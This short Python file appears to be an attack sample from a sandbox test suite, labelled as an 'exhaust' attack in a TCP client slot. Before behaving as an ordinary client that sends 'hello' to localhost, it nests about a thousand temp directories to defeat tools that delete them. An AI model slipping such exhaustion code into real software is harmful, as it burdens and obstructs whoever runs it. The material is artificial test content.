# attack: makes folders within folders, deeper than most programs that remove them can go
# family: exhaust
# score: up to 7
# slot: tcp_v1/client.py
# stopped: namespaces
# bounded: user plain
import os
import socket
import tempfile

here = os.getcwd()
os.chdir(tempfile.gettempdir())
try:
    for _ in range(1010):
        os.mkdir("deeper")
        os.chdir("deeper")
except OSError:
    pass
os.chdir(here)

# From here on it is an honest client.
with socket.create_connection(("127.0.0.1", 8080)) as server:
    server.sendall(b"hello")
    print(server.recv(1024))
